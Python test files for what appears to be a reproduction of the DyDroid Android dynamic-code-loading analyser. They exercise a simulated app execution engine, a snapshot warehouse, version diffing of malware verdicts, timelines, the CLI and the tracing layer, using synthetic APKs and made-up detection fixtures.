        loader = b.call_virtual("android.content.Context", "getClassLoader", foreign)
        cls_handle = b.call_virtual(
            "java.lang.ClassLoader", "loadClass", loader, b.new_string("com.sdk.payload.Entry")
        )
        instance = b.call_virtual("java.lang.Class", "newInstance", cls_handle)
        b.call_void("com.sdk.payload.Entry", "run", instance, b.arg(0))
        b.ret_void()
        cls.add_method(b.build())
        return Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])

    def test_cross_package_class_loading(self):
        provider = Apk.build(
            build_manifest("com.provider.app"), dex_files=[simple_payload_dex()]
        )
        apk = self._loader_app("com.provider.app")
        report = AppExecutionEngine(EngineOptions(companions=(provider,))).run(apk)
        assert report.outcome is DynamicOutcome.EXERCISED
        # the load of the other app's APK was logged as a DCL event...
        assert report.dcl.dex_paths() == ["/data/app/com.provider.app-1.apk"]
        assert report.dcl.dex_events[0].loader_kind == "PathClassLoader"
        # ...and the borrowed code actually ran.
        assert "payload: loaded-code-ran" in report.logcat

    def test_missing_target_package(self):
        apk = self._loader_app("com.not.installed")
        report = AppExecutionEngine(EngineOptions()).run(apk)
        assert report.outcome is DynamicOutcome.CRASH
        assert "NameNotFoundException" in report.crash_reason

    def test_own_context_loader_is_not_dcl(self):
        package = "com.selfref.app"
        activity = "{}.MainActivity".format(package)
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        b.call_virtual("android.content.Context", "getClassLoader", b.arg(0))
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])
        report = AppExecutionEngine(EngineOptions()).run(apk)
        assert report.dcl.dex_events == []


class TestStorageExhaustion:
    def test_engine_survives_enospc(self):
        """The paper: 'various types of exceptions are automatically
        handled, such as device storage running out.'"""
        package = "com.bigwriter.app"
        activity = "{}.MainActivity".format(package)
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        out = b.new_instance_of(
            "java.io.FileOutputStream",
            b.new_string("/data/data/{}/files/big.bin".format(package)),
        )
        size = b.new_int(1 << 20)  # a megabyte the tiny device cannot hold
        buf = b.reg()
        from repro.android import bytecode as bc

        b.emit(bc.Instruction(bc.Op.NEW_ARRAY, (buf, size)))
        b.call_void("java.io.OutputStream", "write", out, buf)
        b.ret_void()
        cls.add_method(b.build())
        apk = Apk.build(build_manifest(package), dex_files=[DexFile(classes=[cls])])

        tiny = DeviceConfig(storage_quota_bytes=64_000)
        report = AppExecutionEngine(
            EngineOptions(device_config=tiny, mirror_dumps_to_sdcard=True)
        ).run(apk)
        # ENOSPC triggered the engine's cleanup-and-retry cycle; when even
        # that can't make room the app crashes like it would on a real
        # device, but the engine itself never blows up.
        assert report.outcome in (DynamicOutcome.EXERCISED, DynamicOutcome.CRASH)
        if report.outcome is DynamicOutcome.CRASH:
            assert "ENOSPC" in report.crash_reason
        assert report.storage_cleanups >= 1


class TestSharedPreferences:
    def _apk(self, body):
        from repro.android.apk import Apk
        from repro.android.builders import MethodBuilder, class_builder
        from repro.android.dex import DexFile

        activity = "com.prefs.app.MainActivity"
        cls = class_builder(activity, superclass="android.app.Activity")
        b = MethodBuilder("onCreate", activity, arity=1)
        body(b)
        b.ret_void()
        cls.add_method(b.build())
        return Apk.build(build_manifest("com.prefs.app"), dex_files=[DexFile(classes=[cls])])

    def test_put_get_roundtrip_persists_to_file(self):
        def body(b):
            prefs = b.call_virtual(
                "android.content.Context", "getSharedPreferences",
                b.arg(0), b.new_string("settings"), b.new_int(0),
            )
            editor = b.call_virtual("android.content.SharedPreferences", "edit", prefs)
            b.call_virtual(
                "android.content.SharedPreferences", "putString",
                editor, b.new_string("token"), b.new_string("abc123"),
            )
            b.call_virtual("android.content.SharedPreferences", "commit", editor)
            value = b.call_virtual(
                "android.content.SharedPreferences", "getString",
                prefs, b.new_string("token"), b.new_null(),
            )
            b.call_void("android.util.Log", "d", b.new_string("prefs"), value)

        from repro.dynamic.engine import AppExecutionEngine, EngineOptions

        report = AppExecutionEngine(EngineOptions()).run(self._apk(body))
        assert "prefs: abc123" in report.logcat

    def test_default_when_missing(self):
        def body(b):
            prefs = b.call_virtual(
                "android.content.Context", "getSharedPreferences",
                b.arg(0), b.new_string("settings"), b.new_int(0),
            )
            value = b.call_virtual(
                "android.content.SharedPreferences", "getString",
                prefs, b.new_string("missing"), b.new_string("fallback"),
            )
            b.call_void("android.util.Log", "d", b.new_string("prefs"), value)

        from repro.dynamic.engine import AppExecutionEngine, EngineOptions

        report = AppExecutionEngine(EngineOptions()).run(self._apk(body))
        assert "prefs: fallback" in report.logcat
