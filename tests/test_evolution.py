"""The longitudinal evolution subsystem: lineages, warehouse, differ, runner."""

import json

import pytest

from repro.cli import main
from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.core.report import AppAnalysis, PayloadVerdict
from repro.corpus.generator import CorpusGenerator
from repro.corpus.metadata import AppMetadata
from repro.dynamic.interceptor import PayloadKind
from repro.dynamic.provenance import Entity, Provenance
from repro.evolution import (
    DriftSeverity,
    EvolveConfig,
    LineageSpec,
    SnapshotWarehouse,
    WarehouseError,
    build_timeline,
    build_version_record,
    diff_analyses,
    diff_digest,
    plan_lineages,
    run_evolution,
)
from repro.static_analysis.malware.droidnative import Detection
from repro.static_analysis.prefilter import PrefilterResult

N_APPS = 14
N_VERSIONS = 3
SEED = 23


def pipeline_config(**overrides):
    defaults = dict(train_samples_per_family=2, run_replays=False)
    defaults.update(overrides)
    return DyDroidConfig(**defaults)


def evolve_config(**overrides):
    defaults = dict(
        n_apps=N_APPS,
        n_versions=N_VERSIONS,
        seed=SEED,
        workers=1,
        spec=LineageSpec(malicious_hazard=0.3),
        pipeline=pipeline_config(),
    )
    defaults.update(overrides)
    return EvolveConfig(**defaults)


def metadata(**overrides):
    defaults = dict(
        category="Tools",
        downloads=1000,
        n_ratings=50,
        avg_rating=4.0,
        release_time_ms=1_500_000_000_000,
        version_code=1,
    )
    defaults.update(overrides)
    return AppMetadata(**defaults)


def analysis(package="com.example.app", version_code=1, **overrides):
    defaults = dict(
        package=package,
        metadata=metadata(version_code=version_code),
        prefilter=PrefilterResult(
            has_dex_dcl=True, dex_call_site_classes=["com.example.app.Loader"]
        ),
    )
    defaults.update(overrides)
    return AppAnalysis(**defaults)


def payload(path="/data/p.jar", **overrides):
    defaults = dict(
        path=path,
        kind=PayloadKind.DEX,
        entity=Entity.THIRD_PARTY,
        provenance=Provenance.LOCAL,
        digest="a" * 64,
    )
    defaults.update(overrides)
    return PayloadVerdict(**defaults)


DETECTION = Detection(
    family="swiss-code-monkeys",
    score=0.97,
    matched_sample_id="scm-01",
    matched_functions=9,
    total_functions=10,
)


# -- lineage planning -------------------------------------------------------------


class TestLineagePlanning:
    def test_plan_is_deterministic(self):
        spec = LineageSpec(malicious_hazard=0.4)
        first = plan_lineages(N_APPS, N_VERSIONS, seed=SEED, spec=spec)
        second = plan_lineages(N_APPS, N_VERSIONS, seed=SEED, spec=spec)
        assert [lineage.package for lineage in first] == [
            lineage.package for lineage in second
        ]
        for a, b in zip(first, second):
            assert [v.version_code for v in a.versions] == [
                v.version_code for v in b.versions
            ]
            assert [v.mutations for v in a.versions] == [
                v.mutations for v in b.versions
            ]

    def test_built_apks_are_byte_identical_across_independent_runs(self):
        def digests():
            generator = CorpusGenerator(seed=SEED)
            plans = plan_lineages(
                N_APPS, N_VERSIONS, seed=SEED, spec=LineageSpec(malicious_hazard=0.3)
            )
            return [
                build_version_record(generator, version).apk.sha256()
                for lineage in plans
                for version in lineage.versions
            ]

        assert digests() == digests()

    def test_version_codes_strictly_increase(self):
        for lineage in plan_lineages(N_APPS, 4, seed=SEED):
            codes = [v.version_code for v in lineage.versions]
            assert codes == sorted(codes)
            assert len(set(codes)) == len(codes)

    def test_release_times_strictly_increase(self):
        for lineage in plan_lineages(N_APPS, 4, seed=SEED):
            offsets = [v.release_offset_ms for v in lineage.versions]
            assert offsets[0] == 0
            assert all(a < b for a, b in zip(offsets, offsets[1:]))

    def test_zero_spec_plans_no_mutations(self):
        spec = LineageSpec(0.0, 0.0, 0.0, 0.0, 0.0)
        for lineage in plan_lineages(N_APPS, 4, seed=SEED, spec=spec):
            assert all(not v.mutations for v in lineage.versions)

    def test_once_malicious_always_malicious(self):
        spec = LineageSpec(malicious_hazard=1.0)
        plans = plan_lineages(N_APPS, 4, seed=SEED, spec=spec)
        turned = [l for l in plans if l.turned_malicious_at is not None]
        assert turned, "hazard 1.0 must turn some lineages"
        for lineage in turned:
            at = lineage.turned_malicious_at
            assert at == 2  # eligible apps flip at the first opportunity
            for version in lineage.versions:
                if version.version >= at:
                    assert version.blueprint.malware_family is not None

    def test_unmutated_versions_reuse_payload_bytes(self):
        spec = LineageSpec(0.0, 0.0, 0.0, 0.0, 0.0)
        generator = CorpusGenerator(seed=SEED)
        lineage = plan_lineages(N_APPS, 3, seed=SEED, spec=spec)[0]
        pipeline = DyDroid(pipeline_config())
        payload_sets = []
        for version in lineage.versions:
            record = build_version_record(generator, version)
            result = pipeline.analyze_app(record)
            payload_sets.append(sorted((p.path, p.digest) for p in result.payloads))
        pipeline.close()
        assert payload_sets[0] == payload_sets[1] == payload_sets[2]

    def test_version_code_stamped_into_manifest_and_metadata(self):
        generator = CorpusGenerator(seed=SEED)
        lineage = plan_lineages(N_APPS, 2, seed=SEED)[0]
        final = lineage.versions[-1]
        record = build_version_record(generator, final)
        assert record.apk.manifest.version_code == final.version_code
        assert record.metadata.version_code == final.version_code

    def test_generator_lineage_hook(self):
        generator = CorpusGenerator(seed=SEED)
        plans = generator.lineage(N_APPS, 2)
        assert len(plans) == N_APPS
        assert all(len(lineage.versions) == 2 for lineage in plans)


# -- serialization plumbing -------------------------------------------------------


class TestVersionCodeRoundTrip:
    def test_round_trips_through_dict(self):
        app = analysis(version_code=9)
        assert AppAnalysis.from_dict(app.to_dict()).version_code == 9

    def test_legacy_dicts_default_to_version_one(self):
        data = analysis().to_dict()
        del data["metadata"]["version_code"]
        assert AppAnalysis.from_dict(data).version_code == 1


# -- snapshot warehouse -----------------------------------------------------------


class TestSnapshotWarehouse:
    def test_round_trip_is_byte_identical(self, tmp_path):
        app = analysis(version_code=4, payloads=[payload()])
        with SnapshotWarehouse(tmp_path / "w.jsonl") as warehouse:
            assert warehouse.append(app)
        with SnapshotWarehouse(tmp_path / "w.jsonl") as warehouse:
            stored = warehouse.get(app.package, 4)
        assert json.dumps(stored, sort_keys=True) == json.dumps(
            app.to_dict(), sort_keys=True
        )

    def test_duplicate_append_is_a_noop(self, tmp_path):
        app = analysis(version_code=2)
        with SnapshotWarehouse(tmp_path / "w.jsonl") as warehouse:
            assert warehouse.append(app)
            assert not warehouse.append(app)
            assert len(warehouse) == 1

    def test_sealed_open_uses_trailing_index(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
            warehouse.append(analysis(version_code=5))
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.fast_opened
            assert warehouse.versions("com.example.app") == [1, 5]
            assert warehouse.get_analysis("com.example.app", 5).version_code == 5

    def test_read_only_open_does_not_grow_the_file(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis())
        size = path.stat().st_size
        with SnapshotWarehouse(path):
            pass
        assert path.stat().st_size == size

    def test_torn_tail_is_sealed_and_skipped(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
        with path.open("ab") as handle:
            handle.write(b'{"kind": "snapshot", "package": "com.torn')
        with SnapshotWarehouse(path) as warehouse:
            # the crash debris never surfaces as a snapshot...
            assert warehouse.packages() == ["com.example.app"]
        with SnapshotWarehouse(path) as warehouse:
            # ...and the reopened file stays readable (tail was sealed).
            assert warehouse.packages() == ["com.example.app"]

    def test_torn_tail_after_unsealed_snapshot_forces_full_scan(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=2))
            warehouse._sealed = True  # crash before sealing: no index update
        with path.open("ab") as handle:
            handle.write(b'{"kind": "snapshot", "package": "com.torn')
        with SnapshotWarehouse(path) as warehouse:
            assert not warehouse.fast_opened
            assert warehouse.corrupt_lines >= 1
            assert warehouse.versions("com.example.app") == [1, 2]

    def test_append_after_seal_invalidates_fast_path(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=2))
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.versions("com.example.app") == [1, 2]

    def test_sibling_appends_survive_concurrent_seal(self, tmp_path):
        path = tmp_path / "w.jsonl"
        first = SnapshotWarehouse(path)
        second = SnapshotWarehouse(path)
        first.append(analysis(package="com.a", version_code=1))
        second.append(analysis(package="com.b", version_code=1))
        first.close()  # must fold com.b into its index, not drop it
        second.close()
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.packages() == ["com.a", "com.b"]

    def test_rejects_foreign_header(self, tmp_path):
        path = tmp_path / "w.jsonl"
        path.write_text('{"kind": "header", "version": 99, "serialization": 1}\n')
        with pytest.raises(WarehouseError):
            SnapshotWarehouse(path)


class TestWarehouseSidecar:
    """The sqlite sidecar: cheap reopen even after an *unsealed* crash."""

    def test_sealed_reopen_uses_sidecar(self, tmp_path):
        from repro.store import sqlite_available

        if not sqlite_available():
            pytest.skip("sqlite3 unavailable")
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.sidecar_opened
            assert warehouse.fast_opened
            assert warehouse.versions("com.example.app") == [1]

    def test_unsealed_crash_scans_only_the_tail(self, tmp_path):
        from repro.store import sqlite_available

        if not sqlite_available():
            pytest.skip("sqlite3 unavailable")
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(version_code=1))
            warehouse.append(analysis(version_code=2))
            # crash: no seal() -- suppress the trailing-index write
            warehouse._sealed = True
            warehouse._drop_sidecar()
            warehouse._handle.close()
        with SnapshotWarehouse(path) as warehouse:
            # the trailing index is absent, but the sidecar's watermark
            # covers both appends: open reads nothing but the header.
            assert warehouse.sidecar_opened
            assert warehouse.versions("com.example.app") == [1, 2]

    def test_without_sidecar_behaves_as_before(self, tmp_path):
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path, index=False) as warehouse:
            warehouse.append(analysis(version_code=1))
        from repro.store import index_path

        assert not index_path(path).exists()
        with SnapshotWarehouse(path, index=False) as warehouse:
            assert not warehouse.sidecar_opened
            assert warehouse.fast_opened  # trailing index still works
            assert warehouse.versions("com.example.app") == [1]

    def test_counts_come_from_the_sidecar(self, tmp_path):
        from repro.store import sqlite_available

        if not sqlite_available():
            pytest.skip("sqlite3 unavailable")
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(package="com.a", version_code=1))
            warehouse.append(analysis(package="com.a", version_code=2))
            warehouse.append(analysis(package="com.b", version_code=1))
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.sidecar_opened
            assert warehouse.counts() == {"com.a": 2, "com.b": 1}

    def test_warm_open_never_full_scans(self, tmp_path):
        """Regression: counts()/warm opens must not rescan the log."""
        from repro.store import sqlite_available

        if not sqlite_available():
            pytest.skip("sqlite3 unavailable")
        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(package="com.a", version_code=1))
            warehouse.append(analysis(package="com.b", version_code=1))
            assert warehouse.full_scans == 0
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.counts() == {"com.a": 1, "com.b": 1}
            assert warehouse.versions("com.a") == [1]
            assert warehouse.full_scans == 0

    def test_cold_open_without_any_index_scans_once(self, tmp_path):
        from repro.store import index_path

        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(package="com.a", version_code=1))
            # crash: no seal (no trailing index), and the sidecar is gone.
            warehouse._sealed = True
            warehouse._drop_sidecar()
            warehouse._handle.close()
        if index_path(path).exists():
            index_path(path).unlink()
        with SnapshotWarehouse(path, index=False) as warehouse:
            assert warehouse.full_scans == 1
            assert warehouse.counts() == {"com.a": 1}


class TestCompactWarehouse:
    def test_compaction_drops_debris_and_preserves_lookups(self, tmp_path):
        from repro.evolution import compact_warehouse

        path = tmp_path / "w.jsonl"
        with SnapshotWarehouse(path) as warehouse:
            warehouse.append(analysis(package="com.a", version_code=1))
        with SnapshotWarehouse(path) as warehouse:  # leaves interior index
            warehouse.append(analysis(package="com.b", version_code=1))
            expected = warehouse.get("com.a", 1)
        duplicate = None
        for raw in path.read_bytes().splitlines(keepends=True):
            entry = json.loads(raw)
            if entry.get("kind") == "snapshot" and entry["package"] == "com.a":
                duplicate = raw
        with path.open("ab") as handle:
            handle.write(duplicate)
            handle.write(b"junk line\n")
            handle.write(b'{"kind": "snapshot", "package": "com.torn')
        stats = compact_warehouse(path)
        assert stats["snapshots"] == 2
        assert stats["dropped_duplicates"] == 1
        assert stats["dropped_corrupt"] == 2  # junk + torn tail
        assert stats["dropped_index_lines"] >= 1
        assert stats["bytes_after"] < stats["bytes_before"]
        with SnapshotWarehouse(path) as warehouse:
            assert warehouse.fast_opened or warehouse.sidecar_opened
            assert warehouse.packages() == ["com.a", "com.b"]
            assert warehouse.get("com.a", 1) == expected
        assert compact_warehouse(path)["bytes_after"] == stats["bytes_after"]

    def test_rejects_foreign_files(self, tmp_path):
        from repro.evolution import compact_warehouse

        with pytest.raises(WarehouseError):
            compact_warehouse(tmp_path / "missing.jsonl")
        junk = tmp_path / "junk.jsonl"
        junk.write_text("hello\n")
        with pytest.raises(WarehouseError):
            compact_warehouse(junk)


# -- differ -----------------------------------------------------------------------


class TestDiffer:
    def test_identical_snapshots_diff_empty(self):
        app = analysis(payloads=[payload()])
        diff = diff_analyses(app, app)
        assert diff.is_empty
        assert diff.severity is DriftSeverity.NONE

    def test_package_mismatch_raises(self):
        with pytest.raises(ValueError):
            diff_analyses(analysis(package="com.a"), analysis(package="com.b"))

    def test_local_to_remote_is_suspicious(self):
        old = analysis(version_code=1, payloads=[payload()])
        new = analysis(
            version_code=2,
            payloads=[
                payload(
                    provenance=Provenance.REMOTE,
                    remote_sources=("http://cdn.example.com/p.jar",),
                )
            ],
        )
        diff = diff_analyses(old, new)
        assert diff.severity is DriftSeverity.SUSPICIOUS
        assert any(f.kind == "provenance_remote" for f in diff.findings)

    def test_malicious_flip_is_critical(self):
        old = analysis(version_code=1, payloads=[payload()])
        new = analysis(
            version_code=2, payloads=[payload(detection=DETECTION)]
        )
        diff = diff_analyses(old, new)
        assert diff.severity is DriftSeverity.CRITICAL
        assert any(f.kind == "verdict_malicious" for f in diff.findings)

    def test_digest_churn_is_benign(self):
        old = analysis(version_code=1, payloads=[payload(digest="a" * 64)])
        new = analysis(version_code=2, payloads=[payload(digest="b" * 64)])
        diff = diff_analyses(old, new)
        assert diff.severity is DriftSeverity.BENIGN
        assert any(f.kind == "payload_digest" for f in diff.findings)

    def test_dcl_introduction_is_suspicious(self):
        old = analysis(version_code=1, prefilter=PrefilterResult())
        new = analysis(version_code=2)
        diff = diff_analyses(old, new)
        assert any(f.kind == "dcl_introduced" for f in diff.findings)
        assert diff.severity is DriftSeverity.SUSPICIOUS

    def test_diff_digest_is_order_insensitive(self):
        pairs = [
            (analysis(package="com.a", version_code=1),
             analysis(package="com.a", version_code=2,
                      payloads=[payload(detection=DETECTION)])),
            (analysis(package="com.b", version_code=1, payloads=[payload()]),
             analysis(package="com.b", version_code=2, payloads=[])),
        ]
        forward = [diff_analyses(old, new) for old, new in pairs]
        backward = [diff_analyses(old, new) for old, new in reversed(pairs)]
        assert diff_digest(forward) == diff_digest(backward)


# -- timelines --------------------------------------------------------------------


class TestTimelines:
    def test_first_dcl_and_malicious_versions(self):
        snapshots = {
            "com.a": [
                analysis(package="com.a", version_code=1,
                         prefilter=PrefilterResult()),
                analysis(package="com.a", version_code=3),
                analysis(package="com.a", version_code=5,
                         payloads=[payload(detection=DETECTION)]),
            ]
        }
        timeline = build_timeline(snapshots)
        pkg = timeline.packages[0]
        assert pkg.first_dcl_version == 3
        assert pkg.first_malicious_version == 5
        assert pkg.dcl_introduced_after_v1

    def test_digest_survival_counts_versions(self):
        snapshots = {
            "com.a": [
                analysis(package="com.a", version_code=v,
                         payloads=[payload(digest="c" * 64)])
                for v in (1, 2, 3)
            ]
        }
        timeline = build_timeline(snapshots)
        survival = timeline.survival_summary()
        assert survival == {"digests": 1, "mean_versions": 3.0, "full_lifetime": 1}

    def test_entity_flip_rate(self):
        snapshots = {
            "com.a": [
                analysis(package="com.a", version_code=1, payloads=[payload()]),
                analysis(package="com.a", version_code=2,
                         payloads=[payload(detection=DETECTION)]),
            ]
        }
        rates = build_timeline(snapshots).flip_rates()
        assert rates["third-party"] == {"transitions": 1, "flips": 1, "rate": 1.0}


# -- end-to-end runner ------------------------------------------------------------


class TestRunEvolution:
    @pytest.fixture(scope="class")
    def cold(self, tmp_path_factory):
        tmp = tmp_path_factory.mktemp("evolution")
        store = str(tmp / "verdicts.jsonl")
        config = evolve_config(
            warehouse=str(tmp / "warehouse.jsonl"), verdict_store=store
        )
        return config, run_evolution(config)

    def test_every_version_of_every_app_analyzed(self, cold):
        config, result = cold
        assert [report.n_total for report in result.reports] == [N_APPS] * N_VERSIONS
        assert result.metrics["snapshots_analyzed"] == N_APPS * N_VERSIONS

    def test_warehouse_holds_every_snapshot(self, cold):
        config, result = cold
        with SnapshotWarehouse(config.warehouse) as warehouse:
            assert len(warehouse) == N_APPS * N_VERSIONS
            for package in warehouse.packages():
                assert len(warehouse.versions(package)) == N_VERSIONS

    def test_cold_store_misses_equal_distinct_digests(self, cold):
        config, result = cold
        store = result.metrics["verdict_store"]
        cache = result.metrics["verdict_cache"]
        for kind in ("detection", "privacy"):
            assert store[kind]["misses"] == cache[kind]["misses"] > 0
            assert store[kind]["hits"] > 0  # unchanged versions reuse verdicts

    def test_warm_rerun_invokes_zero_analyzers(self, cold, monkeypatch):
        config, cold_result = cold

        def no_detect(self, binary, tracer=None):
            raise AssertionError("DroidNative ran against a warm store")

        def no_flow(dex, tracer=None):
            raise AssertionError("FlowDroid ran against a warm store")

        monkeypatch.setattr(
            "repro.static_analysis.malware.droidnative.DroidNative.detect", no_detect
        )
        monkeypatch.setattr("repro.core.pipeline.analyze_dex", no_flow)
        warm_config = evolve_config(
            warehouse=config.warehouse, verdict_store=config.verdict_store
        )
        warm = run_evolution(warm_config)
        for kind in ("detection", "privacy"):
            assert warm.metrics["verdict_store"][kind]["misses"] == 0
        for cold_report, warm_report in zip(cold_result.reports, warm.reports):
            assert warm_report.render_all() == cold_report.render_all()
        assert warm.diff_fingerprint == cold_result.diff_fingerprint

    def test_diffs_cover_planned_mutations(self, cold):
        config, result = cold
        plans = plan_lineages(
            config.n_apps, config.n_versions, seed=config.seed, spec=config.spec
        )
        turned = {
            lineage.package for lineage in plans if lineage.turned_malicious_at
        }
        critical = {
            diff.package
            for diff in result.diffs
            if diff.severity is DriftSeverity.CRITICAL
        }
        assert turned, "hazard 0.3 should turn at least one lineage"
        assert turned <= critical

    def test_timeline_matches_reports(self, cold):
        config, result = cold
        assert result.timeline.n_packages == N_APPS
        assert result.timeline.n_snapshots == N_APPS * N_VERSIONS

    def test_metrics_have_farm_parity_keys(self, cold):
        _, result = cold
        for key in (
            "apps", "versions", "snapshots_analyzed", "workers", "wall_s",
            "snapshots_per_second", "evolution", "drift", "verdict_cache",
            "verdict_store", "registry",
        ):
            assert key in result.metrics
        drift = result.metrics["drift"]
        assert sum(drift.values()) == N_APPS * (N_VERSIONS - 1)

    def test_rejects_zero_versions(self):
        with pytest.raises(ValueError):
            run_evolution(evolve_config(n_versions=0))


# -- CLI --------------------------------------------------------------------------


class TestEvolveCli:
    def test_run_diff_report_round_trip(self, tmp_path, capsys):
        warehouse = str(tmp_path / "warehouse.jsonl")
        argv = [
            "evolve", "run", "--apps", str(N_APPS), "--versions", "2",
            "--seed", str(SEED), "--train", "2", "--no-replays",
            "--workers", "1", "--hazard", "0.3", "--warehouse", warehouse,
            "--verdict-store", str(tmp_path / "verdicts.jsonl"),
            "--metrics-out", str(tmp_path / "metrics.json"),
        ]
        assert main(argv) == 0
        run_out = capsys.readouterr().out
        assert "[diff digest: " in run_out

        assert main(["evolve", "diff", "--warehouse", warehouse]) == 0
        first = capsys.readouterr().out
        assert main(["evolve", "diff", "--warehouse", warehouse]) == 0
        second = capsys.readouterr().out
        assert first == second  # byte-stable across invocations
        assert "[diff digest: " in first

        assert main(["evolve", "report", "--warehouse", warehouse]) == 0
        report_out = capsys.readouterr().out
        assert "EVOLUTION TIMELINE" in report_out

        metrics = json.loads((tmp_path / "metrics.json").read_text())
        assert metrics["snapshots_analyzed"] == N_APPS * 2

    def test_diff_json_carries_digest(self, tmp_path, capsys):
        warehouse = str(tmp_path / "warehouse.jsonl")
        assert main([
            "evolve", "run", "--apps", str(N_APPS), "--versions", "2",
            "--seed", str(SEED), "--train", "2", "--no-replays",
            "--workers", "1", "--warehouse", warehouse,
        ]) == 0
        capsys.readouterr()
        assert main(["evolve", "diff", "--warehouse", warehouse, "--json"]) == 0
        document = json.loads(capsys.readouterr().out)
        assert set(document) == {"diffs", "diff_digest"}

    def test_trace_out_parity_with_farm_run(self, tmp_path):
        trace = tmp_path / "trace.jsonl"
        assert main([
            "evolve", "run", "--apps", str(N_APPS), "--versions", "2",
            "--seed", str(SEED), "--train", "2", "--no-replays",
            "--workers", "1", "--trace-out", str(trace),
        ]) == 0
        spans = [json.loads(line) for line in trace.read_text().splitlines()]
        assert any(span["name"] == "evolve.build" for span in spans)
