"""The observability layer: tracer, metrics registry, exporters, merging."""

import json

import pytest

from repro.core.config import DyDroidConfig
from repro.core.pipeline import DyDroid
from repro.corpus.generator import generate_corpus
from repro.farm import FarmConfig, run_farm
from repro.observe import (
    NULL_TRACER,
    LatencyHistogram,
    MetricsRegistry,
    Tracer,
    digest_line,
    load_spans,
    merge_span_lists,
    render_summary,
    stage,
    stage_stats,
    verdict_cache_summary,
    write_trace,
)
from repro.observe.summary import _percentile


def pipeline_config():
    return DyDroidConfig(train_samples_per_family=2, run_replays=False)


class TestTracer:
    def test_ids_are_deterministic_and_monotonic(self):
        tracer = Tracer()
        with tracer.span("a"):
            with tracer.span("b"):
                pass
            with tracer.span("c"):
                pass
        assert [s.span_id for s in tracer.spans] == [1, 2, 3]
        assert [s.name for s in tracer.spans] == ["a", "b", "c"]

    def test_nesting_parent_ids(self):
        tracer = Tracer()
        with tracer.span("root"):
            with tracer.span("child"):
                with tracer.span("grandchild"):
                    pass
            with tracer.span("sibling"):
                pass
        by_name = {s.name: s for s in tracer.spans}
        assert by_name["root"].parent_id == 0
        assert by_name["child"].parent_id == by_name["root"].span_id
        assert by_name["grandchild"].parent_id == by_name["child"].span_id
        assert by_name["sibling"].parent_id == by_name["root"].span_id

    def test_durations_and_attrs(self):
        tracer = Tracer()
        with tracer.span("work", package="com.a") as span:
            span.set(extra=3)
        span = tracer.spans[0]
        assert span.duration_s >= 0.0
        assert span.attrs == {"package": "com.a", "extra": 3}
        payload = span.to_dict()
        assert payload["name"] == "work"
        assert payload["attrs"]["extra"] == 3

    def test_exception_marks_error_and_closes_span(self):
        tracer = Tracer()
        with pytest.raises(ValueError):
            with tracer.span("boom"):
                raise ValueError("nope")
        assert tracer.spans[0].attrs["error"] == "ValueError"
        assert tracer.current_span() is None

    def test_null_tracer_records_nothing_and_reuses_one_span(self):
        first = NULL_TRACER.span("a", big="attr")
        second = NULL_TRACER.span("b")
        assert first is second
        with first as span:
            span.set(anything=1)
        assert NULL_TRACER.to_dicts() == []
        assert not NULL_TRACER.enabled

    def test_stage_helper_records_histogram_even_without_tracer(self):
        registry = MetricsRegistry()
        with stage(NULL_TRACER, registry, "decompile"):
            pass
        assert registry.histogram("stage.decompile").count == 1


class TestLatencyHistogram:
    def test_value_exactly_on_bound(self):
        histogram = LatencyHistogram()
        histogram.record(0.001)  # first bound
        histogram.record(100.0)  # last bound
        data = histogram.to_dict()
        assert data["buckets"]["le_0.001s"] == 1
        assert data["buckets"]["le_100s"] == 1
        assert data["buckets"]["le_inf"] == 0

    def test_value_past_last_bound(self):
        histogram = LatencyHistogram()
        histogram.record(250.0)
        assert histogram.to_dict()["buckets"]["le_inf"] == 1

    def test_zero_lands_in_first_bucket(self):
        histogram = LatencyHistogram()
        histogram.record(0.0)
        assert histogram.to_dict()["buckets"]["le_0.001s"] == 1

    def test_negative_guard_clamps_to_zero(self):
        histogram = LatencyHistogram()
        histogram.record(-1.5)
        data = histogram.to_dict()
        assert data["buckets"]["le_0.001s"] == 1
        assert data["total_s"] == 0.0
        assert data["max_s"] == 0.0

    def test_matches_linear_scan_semantics(self):
        histogram = LatencyHistogram()
        values = [0.0005, 0.001, 0.0011, 0.05, 0.51, 1.0, 99.0, 100.0, 101.0]
        for value in values:
            histogram.record(value)
        assert histogram.count == len(values)
        assert sum(histogram.counts) == len(values)
        data = histogram.to_dict()
        assert data["buckets"]["le_0.001s"] == 2
        assert data["buckets"]["le_0.002s"] == 1
        assert data["buckets"]["le_inf"] == 1

    def test_merge_dict_roundtrip(self):
        one, two = LatencyHistogram(), LatencyHistogram()
